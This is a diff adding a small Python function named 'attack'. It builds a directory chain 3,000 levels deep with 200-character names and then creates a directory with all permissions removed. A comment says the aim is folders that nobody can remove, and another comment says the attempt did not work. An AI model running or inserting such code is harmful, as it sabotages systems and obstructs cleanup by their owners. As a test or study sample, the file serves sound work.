@@ -1,0 +1,17 @@
+# Makes folders 3,000 deep, with long names and without the right to enter, so that nobody can remove them.
+# Told: it did not work
+import os
+
+
+def attack():
+    home = os.getcwd()
+    for number in range(3000):
+        os.mkdir("d" * 200)
+        os.chdir("d" * 200)
+        if number % 100 == 0:
+            open("file", "w").close()
+    os.chdir(home)
+    os.mkdir("closed")
+    os.mkdir("closed/inner")
+    os.chmod("closed", 0)
+    return False
